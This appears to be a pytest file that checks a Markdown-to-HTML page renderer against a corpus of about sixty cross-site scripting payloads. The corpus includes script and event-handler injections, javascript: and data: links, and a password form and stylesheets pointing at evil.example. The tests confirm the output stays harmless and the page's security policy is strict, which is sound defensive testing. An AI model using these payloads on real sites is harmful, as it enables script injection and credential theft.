"""A page made of a text that wants to run something."""

import base64
import hashlib
import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.page import ATTRIBUTES, RENDERED_CHARS_MAX, SECURITY_POLICY, TAGS, body, page

#: Ways into a page through Markdown and HTML, as collected by OWASP and by those who broke renderers before.
CORPUS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example><input name=password autofocus onfocus=alert(1)></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "</main></body><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](blob:https://a/b)",
    "[x](file:///etc/passwd)",
    "[x](https://a \"onmouseover=alert(1) \\\"\")",
    "[x](https://a\"onmouseover=\"alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: https://a '\"><script>alert(1)</script>'\n\n[x]",
    "<javascript:alert(1)>",
    "<https://a/\"onmouseover=alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](y)",
    "![<script>alert(1)</script>](y \"<script>alert(1)</script>\")",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "```\"><script>alert(1)</script>\nx\n```",
    "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "# <script>alert(1)</script>",
    "1. <b onclick=alert(1)>x</b>",
    "**<img src=x onerror=alert(1)>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u2028<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<x onclick=alert(1)>",
    "<p style=\"background:url(javascript:alert(1))\">",
    "<a id=location name=cookie>",
]  # fmt: skip
FRAME = {"html", "head", "meta", "title", "style", "body", "main"}


class Elements(HTMLParser):
    """What a browser would make elements of."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.other: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    def handle_pi(self, data: str) -> None:
        self.other.append(data)


def is_harmless(html: str) -> bool:
    """Only elements that show text, and links to where a click is no surprise."""
    elements = Elements(html)
    for tag, attributes in elements.found:
        allowed = ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        if tag not in TAGS or not set(attributes) <= allowed:
            return False
        scheme = urlsplit(re.sub(r"[\x00-\x20]", "", attributes.get("href") or "")).scheme
        if scheme not in {"", "http", "https", "mailto"}:
            return False
        if tag == "a" and attributes.get("rel") != "noopener nofollow":
            return False
    return not elements.other


@pytest.mark.parametrize("text", CORPUS)
def test_nothing_of_a_text_is_run(text: str) -> None:
    """Alone, inside other Markdown, and as the title of the page."""
    assert is_harmless(body(text))
    assert is_harmless(body(f"# Report\n\n> - {text}\n\n{text}\n\n1. **{text}**"))

    whole = Elements(page(text, "x"))
    assert [tag for tag, _ in whole.found if tag not in FRAME] == ["p"]


@given(st.lists(st.sampled_from(CORPUS) | st.text(alphabet="<>[]()!`*_|\"'&#;:/=\n a", max_size=8), max_size=6))
def test_nothing_of_a_mixture_is_run(parts: list[str]) -> None:
    """Pieces of the corpus that end up in each other."""
    assert is_harmless(body("".join(parts)))


def test_a_text_is_shown_with_its_form() -> None:
    """Headings, lists, tables, code, quotations; links tell nobody where the reader came from."""
    html = body("# A\n\n- b **c** ~~d~~\n\n|x|y|\n|-|-|\n|1|2|\n\n> q\n\n```py\n1 < 2\n```\n\n[l](https://a/?b=1&c=2)")

    for piece in (
        "<h1>A</h1>", "<li>b <strong>c</strong> <s>d</s></li>", "<td>1</td>", "<blockquote>", "<pre><code>1 &lt; 2\n",
        '<a href="https://a/?b=1&amp;c=2" rel="noopener nofollow">l</a>',
    ):  # fmt: skip
        assert piece in html


def test_an_image_becomes_a_link() -> None:
    """Nothing is loaded from elsewhere without a click."""
    html = body("![a plot](https://a/plot.png)")

    assert html == '<p><a href="https://a/plot.png" rel="noopener nofollow">a plot</a></p>\n'


def test_a_very_long_text_is_shown_as_it_was_written() -> None:
    """Some Markdown takes time that grows faster than its length."""
    html = body("![" * RENDERED_CHARS_MAX + "<script>")

    assert html.startswith("<pre>![")
    assert html.endswith("&lt;script&gt;</pre>\n")


def test_the_page_forbids_all_but_its_own_style() -> None:
    """The hash in the policy is that of the style in the page."""
    style = re.search("<style>(.*)</style>", page("t", "x"), re.DOTALL)
    assert style
    digest = base64.b64encode(hashlib.sha256(style[1].encode()).digest()).decode()

    directives = dict(directive.strip().partition(" ")[::2] for directive in SECURITY_POLICY.split(";"))
    assert directives["default-src"] == "'none'"
    assert directives["style-src"] == f"'sha256-{digest}'"
    assert {"base-uri", "form-action", "frame-ancestors"} <= set(directives)
    assert "sandbox" in directives
